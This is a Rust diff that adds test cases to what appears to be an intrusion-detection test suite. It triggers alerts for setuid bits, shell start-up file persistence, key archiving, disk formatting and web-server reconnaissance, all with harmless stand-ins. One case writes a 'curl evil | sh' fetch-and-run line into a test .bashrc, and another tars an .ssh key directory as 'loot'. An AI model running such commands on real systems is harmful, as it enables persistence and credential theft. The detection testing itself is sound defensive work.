@@ -95,6 +95,17 @@ fn argv_has(tag: String) -> impl Fn(&Value) -> bool {
     }
 }
 
+/// Matches events and alerts whose process's parent has `tag` in its
+/// command line.
+fn parent_argv_has(tag: String) -> impl Fn(&Value) -> bool {
+    move |v: &Value| {
+        v["ancestry"][0]["argv"].as_array().is_some_and(|a| {
+            a.iter()
+                .any(|x| x.as_str().is_some_and(|s| s.contains(&tag)))
+        })
+    }
+}
+
 /// One behaviour: `near_miss` runs first and returns a predicate for the
 /// alerts it must not cause (the same predicate must match some event it
 /// caused, proving the agent saw it); `act` returns the predicate of the
@@ -493,6 +504,115 @@ fn cases() -> Vec<Case> {
                     dropped.display()
                 ));
                 b(argv_has(tag))
+            },
+        ),
+        case(
+            "Setuid or setgid bit set",
+            |e| {
+                let f = e.path(&unique("plain"));
+                write_file(&f);
+                b(pid_is(helper(&["chmod", f.to_str().unwrap(), "0755"])))
+            },
+            |e| {
+                let f = e.path(&unique("suid"));
+                write_file(&f);
+                b(pid_is(run(Command::new("chmod").arg("u+s").arg(&f))))
+            },
+        ),
+        case(
+            "Shell start-up file modified",
+            |e| {
+                std::fs::create_dir_all(e.path("home")).unwrap();
+                let f = e.path("home/.bashrc.orig");
+                b(pid_is(sh(&format!("echo 'alias x=y' >> {}", f.display()))))
+            },
+            |e| {
+                std::fs::create_dir_all(e.path("home")).unwrap();
+                let f = e.path("home/.bashrc");
+                b(pid_is(sh(&format!(
+                    "echo 'curl evil | sh' >> {}",
+                    f.display()
+                ))))
+            },
+        ),
+        case(
+            "File created below /dev",
+            |_| b(pid_is(sh("echo x > /dev/null"))),
+            |_| {
+                let f = format!("/dev/{}", unique("vigil-test"));
+                let pid = sh(&format!("echo x > {f}"));
+                let _ = std::fs::remove_file(&f);
+                b(pid_is(pid))
+            },
+        ),
+        case(
+            "Sudo argument overflow attempt",
+            |e| {
+                let sudoedit = e.copy("/bin/true", "sudoedit");
+                let tag = unique("near-sudo");
+                b(pid_is(run(Command::new(&sudoedit).args(["-s", &tag]))))
+            },
+            |e| {
+                let sudoedit = e.copy("/bin/true", "sudoedit");
+                let tag = unique("sudo-overflow");
+                b(pid_is(
+                    run(Command::new(&sudoedit).args(["-s", "\\", &tag])),
+                ))
+            },
+        ),
+        case(
+            "Credentials or keys archived",
+            |e| {
+                std::fs::create_dir_all(e.path("data")).unwrap();
+                write_file(&e.path("data/notes"));
+                let out = e.path(&unique("near.tar"));
+                b(pid_is(run(Command::new("tar")
+                    .arg("cf")
+                    .arg(&out)
+                    .arg("-C")
+                    .arg(e.dir.path())
+                    .arg("data"))))
+            },
+            |e| {
+                std::fs::create_dir_all(e.path("keys/.ssh")).unwrap();
+                write_file(&e.path("keys/.ssh/id_test"));
+                let out = e.path(&unique("loot.tar"));
+                b(pid_is(run(Command::new("tar")
+                    .arg("cf")
+                    .arg(&out)
+                    .arg("-C")
+                    .arg(e.path("keys"))
+                    .arg(".ssh"))))
+            },
+        ),
+        case(
+            "Disk wiped or formatted",
+            |_| {
+                b(pid_is(run(Command::new("dd").args([
+                    "if=/dev/zero",
+                    "of=/dev/null",
+                    "count=1",
+                ]))))
+            },
+            |e| {
+                // A stand-in named mkfs.ext4: nothing is formatted.
+                let mkfs = e.copy("/bin/true", "mkfs.ext4");
+                b(pid_is(run(Command::new(&mkfs).arg("/dev/vigil-test-none"))))
+            },
+        ),
+        case(
+            "Reconnaissance program spawned by a web server",
+            |e| {
+                let worker = e.copy("/bin/bash", "worker");
+                let tag = unique("near-recon");
+                run(Command::new(&worker).args(["-c", &format!("id >/dev/null; true {tag}")]));
+                b(parent_argv_has(tag))
+            },
+            |e| {
+                let nginx = e.copy("/bin/bash", "nginx");
+                let tag = unique("web-recon");
+                run(Command::new(&nginx).args(["-c", &format!("id >/dev/null; true {tag}")]));
+                b(parent_argv_has(tag))
             },
         ),
         case(
